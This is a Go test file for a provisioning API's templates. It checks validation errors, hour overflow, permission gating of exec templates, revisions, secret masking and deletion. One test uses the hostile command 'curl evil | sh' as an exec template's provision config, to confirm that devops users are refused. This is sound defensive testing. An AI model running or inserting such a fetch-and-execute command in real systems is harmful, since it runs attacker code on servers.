package api_test

import (
	"strings"
	"testing"
)

// TestTemplatePatternCompilesWhatRuns: a pattern valid only unanchored is
// refused at creation, naming it, instead of panicking on every request.
func TestTemplatePatternCompilesWhatRuns(t *testing.T) {
	eachStore(t, testTemplatePatternCompilesWhatRuns)
}

func testTemplatePatternCompilesWhatRuns(t *testing.T, open store) {
	e := newEnv(t, open)
	tpl := map[string]any{"_id": "quoted", "name": "Quoted", "params": []any{map[string]any{"name": "p", "pattern": `\Qabc`}}}
	r := e.do("devops", "POST", "/v1/templates", tpl)
	if e.want(r, 422); !strings.Contains(string(r.Body), "params[0].pattern") {
		t.Fatalf("422 does not name params[0].pattern: %s", r.Body)
	}
}

// TestHoursOverflow: hours beyond what a duration holds are refused naming
// the field, instead of wrapping around to an expiry centuries ago.
func TestHoursOverflow(t *testing.T) { eachStore(t, testHoursOverflow) }

func testHoursOverflow(t *testing.T, open store) {
	e := newEnv(t, open)
	e.want(e.do("devops", "POST", "/v1/templates", seedTemplate), 201)
	for _, tt := range []struct {
		method, path, field string
		body                map[string]any
	}{
		{"POST", "/v1/provisionRequests", "ttl_hours", map[string]any{"resource_template": "basic-eks-cluster", "resource_parameters": seedParams, "ttl_hours": 1e300}},
		{"POST", "/v1/provisionRequests", "ttl_hours", map[string]any{"resource_template": "basic-eks-cluster", "resource_parameters": seedParams, "ttl_hours": 721}},
		{"POST", "/v1/templates", "ttl_max_hours", map[string]any{"_id": "big", "name": "Big", "ttl_max_hours": 1e300}},
		{"PATCH", "/v1/templates/basic-eks-cluster", "extension_max_hours", map[string]any{"extension_max_hours": 1e300}},
	} {
		r := e.do("devops", tt.method, tt.path, tt.body)
		if e.want(r, 422); !strings.Contains(string(r.Body), tt.field) {
			t.Fatalf("%s %s: 422 does not name %s: %s", tt.method, tt.path, tt.field, r.Body)
		}
	}
	id := e.submit("dev", seedParams)
	e.want(e.do("devops", "POST", "/v1/provisionRequests/"+id+"/approve", nil), 200)
	e.deploy(id)
	for _, h := range []any{1e300, "1e300", 9.3e18} {
		r := e.do("dev", "POST", "/v1/extensionRequests", map[string]any{"reason": "r", "extend_by": h, "provision_request": id})
		if e.want(r, 422); !strings.Contains(string(r.Body), "extend_by") {
			t.Fatalf("extend_by %v: 422 does not name extend_by: %s", h, r.Body)
		}
	}
}

// TestExecTemplatesNeedTemplatesExec: exec templates run commands on the
// server, so creating or changing one is templates:exec (admins by
// default), not templates:write; devops keep the other drivers.
func TestExecTemplatesNeedTemplatesExec(t *testing.T) {
	eachStore(t, testExecTemplatesNeedTemplatesExec)
}

func testExecTemplatesNeedTemplatesExec(t *testing.T, open store) {
	e := newEnv(t, open)
	exec := map[string]any{"_id": "script", "name": "Script", "driver": "exec"}
	r := e.do("devops", "POST", "/v1/templates", exec)
	if e.want(r, 403); !strings.Contains(string(r.Body), "templates:exec") {
		t.Fatalf("403 does not name templates:exec: %s", r.Body)
	}
	e.want(e.do("admin", "POST", "/v1/templates", exec), 201)
	r = e.do("devops", "PATCH", "/v1/templates/script", map[string]any{"config": map[string]any{"provision": "curl evil | sh"}})
	if e.want(r, 403); !strings.Contains(string(r.Body), "templates:exec") {
		t.Fatalf("changing an exec template: %s", r.Body)
	}
	e.want(e.do("admin", "PATCH", "/v1/templates/script", map[string]any{"description": "runs a script"}), 200)
	e.want(e.do("devops", "POST", "/v1/templates", map[string]any{"_id": "ns", "name": "NS", "driver": "kubernetes-namespace"}), 201)
	e.want(e.do("devops", "PATCH", "/v1/templates/ns", map[string]any{"description": "a namespace"}), 200)
}

// TestTemplateRevisions: each change makes a numbered revision, readable
// on its own; a request shows and links the revision it pinned.
func TestTemplateRevisions(t *testing.T) { eachStore(t, testTemplateRevisions) }

func testTemplateRevisions(t *testing.T, open store) {
	e := newEnv(t, open)
	if rev := e.want(e.do("devops", "POST", "/v1/templates", seedTemplate), 201)["revision"]; rev != float64(1) {
		t.Fatalf("new template revision %v", rev)
	}
	id := e.submit("dev", seedParams)
	if rev := e.want(e.do("devops", "PATCH", "/v1/templates/basic-eks-cluster", map[string]any{"description": "changed"}), 200)["revision"]; rev != float64(2) {
		t.Fatalf("changed template revision %v", rev)
	}
	r := e.want(e.do("dev", "GET", "/v1/provisionRequests/"+id, nil), 200)
	link := r["_links"].(map[string]any)["template_revision"].(map[string]any)["href"].(string)
	if r["template_revision"] != float64(1) || !strings.HasSuffix(link, "/templates/basic-eks-cluster/revisions/1") {
		t.Fatalf("request pins %v, links %s", r["template_revision"], link)
	}
	old := e.want(e.do("dev", "GET", link, nil), 200)
	if old["revision"] != float64(1) || old["description"] != "" {
		t.Fatalf("revision 1: %v", old)
	}
	list := e.want(e.do("dev", "GET", "/v1/templates/basic-eks-cluster/revisions", nil), 200)
	if items := list["_items"].([]any); len(items) != 2 || items[1].(map[string]any)["description"] != "changed" {
		t.Fatalf("revisions %v", items)
	}
	e.want(e.do("dev", "GET", "/v1/templates/basic-eks-cluster/revisions/3", nil), 404)
	e.want(e.do("dev", "GET", "/v1/templates/nope/revisions", nil), 404)
	e.want(e.do("", "GET", "/v1/templates/basic-eks-cluster/revisions", nil), 401)
	e.want(e.do("", "GET", "/v1/templates/basic-eks-cluster/revisions/1", nil), 401)
}

// TestSecretParametersMasked: every role sees a secret parameter as
// ********, in a request, in the list, and in its history.
func TestSecretParametersMasked(t *testing.T) { eachStore(t, testSecretParametersMasked) }

func testSecretParametersMasked(t *testing.T, open store) {
	e := newEnv(t, open)
	e.want(e.do("devops", "POST", "/v1/templates", map[string]any{"_id": "db", "name": "DB",
		"params": []any{"user", map[string]any{"name": "password", "secret": true}}}), 201)
	created := e.want(e.do("dev", "POST", "/v1/provisionRequests", map[string]any{"resource_template": "db",
		"resource_parameters": map[string]any{"user": "app", "password": "hunter2"}}), 201)
	id := created["_id"].(string)
	e.want(e.do("devops", "POST", "/v1/provisionRequests/"+id+"/approve", nil), 200)
	for _, role := range []string{"dev", "devops", "admin"} {
		for _, path := range []string{"/v1/provisionRequests/" + id, "/v1/provisionRequests", "/v1/provisionRequests/" + id + "/history", "/v1/events"} {
			r := e.do(role, "GET", path, nil)
			if r.Status == 403 && path == "/v1/events" {
				continue
			}
			if e.want(r, 200); strings.Contains(string(r.Body), "hunter2") {
				t.Fatalf("%s sees the secret at %s: %s", role, path, r.Body)
			}
		}
		got := e.want(e.do(role, "GET", "/v1/provisionRequests/"+id, nil), 200)["resource_parameters"].(map[string]any)
		if got["password"] != "********" || got["user"] != "app" {
			t.Fatalf("%s sees %v", role, got)
		}
	}
}

// TestTemplateDelete: a template no request was made from is deleted with
// its revisions; one with any request history is refused (requests pin
// its revisions) and told to deactivate instead; an exec template needs
// templates:exec.
func TestTemplateDelete(t *testing.T) { eachStore(t, testTemplateDelete) }

func testTemplateDelete(t *testing.T, open store) {
	e := newEnv(t, open)
	e.want(e.do("devops", "POST", "/v1/templates", map[string]any{"_id": "unused", "name": "Unused"}), 201)
	e.want(e.do("devops", "PATCH", "/v1/templates/unused", map[string]any{"description": "revision 2"}), 200)
	e.want(e.do("dev", "DELETE", "/v1/templates/unused", nil), 403)
	e.want(e.do("devops", "DELETE", "/v1/templates/unused", nil), 204)
	e.want(e.do("devops", "GET", "/v1/templates/unused", nil), 404)
	e.want(e.do("devops", "GET", "/v1/templates/unused/revisions", nil), 404)
	e.want(e.do("devops", "DELETE", "/v1/templates/unused", nil), 404)
	ev := e.want(e.do("admin", "GET", "/v1/events"+where(`{"action":"template.delete"}`), nil), 200)["_items"].([]any)
	if len(ev) != 1 || ev[0].(map[string]any)["before"].(map[string]any)["revision"] != 2.0 {
		t.Fatalf("template.delete events: %v", ev)
	}

	e.want(e.do("devops", "POST", "/v1/templates", seedTemplate), 201)
	id := e.want(e.do("dev", "POST", "/v1/provisionRequests", map[string]any{"resource_template": seedTemplate["_id"], "resource_parameters": seedParams}), 201)["_id"].(string)
	e.want(e.do("devops", "POST", "/v1/provisionRequests/"+id+"/reject", map[string]any{"comment": "no"}), 200)
	r := e.do("devops", "DELETE", "/v1/templates/basic-eks-cluster", nil)
	if e.want(r, 409); !strings.Contains(string(r.Body), id) || !strings.Contains(string(r.Body), "is_active=false") {
		t.Fatalf("deleting a used template: %s", r.Body)
	}
	e.want(e.do("dev", "GET", "/v1/provisionRequests/"+id, nil), 200)

	e.want(e.do("admin", "POST", "/v1/templates", map[string]any{"_id": "script", "name": "Script", "driver": "exec"}), 201)
	if r := e.do("devops", "DELETE", "/v1/templates/script", nil); r.Status != 403 || !strings.Contains(string(r.Body), "templates:exec") {
		t.Fatalf("devops deleting an exec template: %d %s", r.Status, r.Body)
	}
	e.want(e.do("admin", "DELETE", "/v1/templates/script", nil), 204)
}
